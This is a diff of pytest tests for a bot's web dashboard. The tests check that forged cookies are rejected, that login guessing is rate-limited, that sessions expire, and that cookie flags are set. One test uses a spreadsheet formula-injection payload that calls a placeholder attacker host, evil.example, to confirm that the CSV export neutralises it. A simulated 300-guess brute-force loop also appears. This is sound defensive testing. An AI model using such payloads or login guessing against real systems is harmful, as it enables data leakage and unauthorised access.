@@ -6,13 +6,17 @@ from __future__ import annotations
 import shutil
 import socket
 from collections.abc import AsyncIterator
+from datetime import timedelta
 
 import aiohttp
 import pytest
+import yarl
+from itsdangerous import URLSafeTimedSerializer
 from pydantic import SecretStr
 
 from bot.config import Settings
 from bot.core.app import Core
+from bot.dashboard.access import OVERALL, DashboardAccess
 from bot.dashboard.app import add_dashboard
 from bot.messages import Reply, SendResult, Target
 from bot.ops.http import serve, service_app
@@ -36,10 +40,22 @@ needs_chromium = pytest.mark.skipif(
 )
 
 
+def jar() -> aiohttp.CookieJar:
+    return aiohttp.CookieJar(unsafe=True)  # unsafe: keep cookies for an IP-address host
+
+
 @pytest.fixture
-async def site(settings: Settings, clock: ManualClock) -> AsyncIterator[tuple[str, Core]]:
+def public_url() -> str | None:
+    return None
+
+
+@pytest.fixture
+async def site(
+    settings: Settings, clock: ManualClock, public_url: str | None
+) -> AsyncIterator[tuple[str, Core]]:
     core = await start_core(
-        settings.model_copy(update={"dashboard_token": SecretStr(TOKEN)}), clock
+        settings.model_copy(update={"dashboard_token": SecretStr(TOKEN), "public_url": public_url}),
+        clock,
     )
     app = service_app(core.services.database, {})
     add_dashboard(app, core.services, TOKEN)
@@ -71,12 +87,127 @@ async def test_every_page_refuses_access_without_login(site: tuple[str, Core]) -
             base + "/dashboard/", cookies=forged, allow_redirects=False
         ) as response:
             assert response.status == 303
+        # A cookie signed with the organizer token itself (anyone who knows it could mint one).
+        minted = URLSafeTimedSerializer(TOKEN, salt="community-bot dashboard").dumps({"csrf": "x"})
+        async with http.get(
+            base + "/dashboard/", cookies={"cb_session": minted}, allow_redirects=False
+        ) as response:
+            assert response.status == 303
+
+
+async def log_in(
+    http: aiohttp.ClientSession, base: str, token: str = TOKEN
+) -> aiohttp.ClientResponse:
+    async with http.post(
+        base + "/dashboard/login", data={"token": token}, allow_redirects=False
+    ) as response:
+        await response.read()
+        return response
+
+
+async def test_guessing_the_token_is_stopped_with_a_clear_wait(
+    site: tuple[str, Core], clock: ManualClock
+) -> None:
+    base, _ = site
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
+        statuses = [(await log_in(http, base, f"guess-{n}")).status for n in range(300)]
+        assert statuses[:5] == [401] * 5 and set(statuses[5:]) == {429}
+        async with http.post(base + "/dashboard/login", data={"token": "guess"}) as refused:
+            assert "Try again in 900 s" in await refused.text()
+            assert refused.headers["Retry-After"] == "900"
+        # While locked, even the right token is not tried (else guessing would go on).
+        assert (await log_in(http, base)).status == 429
+        clock.advance(timedelta(minutes=10))
+        async with http.post(base + "/dashboard/login", data={"token": "guess"}) as refused:
+            assert "Try again in 300 s" in await refused.text()
+        clock.advance(timedelta(minutes=5, seconds=1))
+        assert (await log_in(http, base)).status == 303
+
+
+async def test_failed_logins_from_many_clients_are_limited_overall(
+    site: tuple[str, Core], clock: ManualClock
+) -> None:
+    _, core = site
+    access = DashboardAccess(core.services.database, TOKEN, timedelta(minutes=30))
+    for n in range(OVERALL):
+        outcome = await access.log_in("wrong", f"10.0.{n // 200}.{n % 200}", clock.now())
+        assert outcome.retry_after == 0 and outcome.session_cookie is None
+    locked = await access.log_in(TOKEN, "192.0.2.7", clock.now())
+    assert locked.retry_after > 0 and locked.session_cookie is None
+
+
+async def test_logout_and_idleness_end_the_session_wherever_the_cookie_is(
+    site: tuple[str, Core], clock: ManualClock
+) -> None:
+    base, _ = site
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
+        await log_in(http, base)
+        cookie = {
+            "cb_session": http.cookie_jar.filter_cookies(yarl.URL(base + "/dashboard/"))[
+                "cb_session"
+            ].value
+        }
+        async with http.get(base + "/dashboard/") as page:
+            csrf = _csrf(await page.text())
+        await http.post(base + "/dashboard/logout", data={"csrf": csrf})
+    async with aiohttp.ClientSession() as thief:  # the copied cookie, after the logout
+        async with thief.get(base + "/dashboard/", cookies=cookie, allow_redirects=False) as page:
+            assert page.status == 303
+        async with thief.post(
+            base + "/dashboard/broadcasts/preview",
+            data={"text": "Free pizza", "audience": "everyone", "csrf": csrf},
+            cookies=cookie,
+            allow_redirects=False,
+        ) as preview:
+            assert preview.status == 303
+
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
+        await log_in(http, base)
+        clock.advance(timedelta(minutes=29))
+        async with http.get(base + "/dashboard/", allow_redirects=False) as page:
+            assert page.status == 200  # still in use
+        clock.advance(timedelta(minutes=31))
+        async with http.get(base + "/dashboard/", allow_redirects=False) as page:
+            assert page.status == 303  # idle too long
+
+
+def _csrf(html: str) -> str:
+    return html.split('name="csrf" value="', 1)[1].split('"', 1)[0]
+
+
+async def test_the_cookie_is_httponly_and_not_secure_over_plain_http(
+    site: tuple[str, Core],
+) -> None:
+    base, _ = site
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
+        cookie = (await log_in(http, base)).cookies["cb_session"]
+    assert cookie["httponly"] and cookie["samesite"] == "Strict" and not cookie["secure"]
+
+
+@pytest.mark.parametrize("public_url", ["https://bot.example.org"])
+async def test_the_cookie_is_secure_behind_https(site: tuple[str, Core]) -> None:
+    base, _ = site
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
+        cookie = (await log_in(http, base)).cookies["cb_session"]
+    assert cookie["secure"]
+
+
+async def test_the_csv_download_neutralises_formulas(site: tuple[str, Core]) -> None:
+    base, core = site
+    member = Member(core, user_id="13", name="@admin")
+    await member.says("/register aigc-app")
+    await member.says('=HYPERLINK("http://evil.example/?"&A1,"x")')
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
+        await log_in(http, base)
+        async with http.get(base + "/dashboard/registrations.csv") as download:
+            text = (await download.read()).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and "'@admin" in text
+    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
 
 
 async def test_a_form_without_the_session_csrf_token_is_refused(site: tuple[str, Core]) -> None:
     base, _ = site
-    # unsafe: keep cookies for an IP-address host (127.0.0.1)
-    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
+    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
         await http.post(base + "/dashboard/login", data={"token": TOKEN})
         async with http.get(base + "/dashboard/", allow_redirects=False) as response:
             assert response.status == 200  # logged in
